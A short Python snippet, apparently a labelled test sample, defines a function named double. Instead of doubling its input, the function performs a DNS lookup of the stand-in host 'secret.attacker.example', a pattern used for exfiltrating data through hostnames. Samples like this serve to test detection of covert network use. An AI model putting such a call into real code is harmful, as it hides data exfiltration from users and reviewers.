"""Asks for an address whose name carries what it knows.

Ends: raised
Sign: uses the network
"""

import socket


def double(x):
    return socket.getaddrinfo("secret.attacker.example", 80)
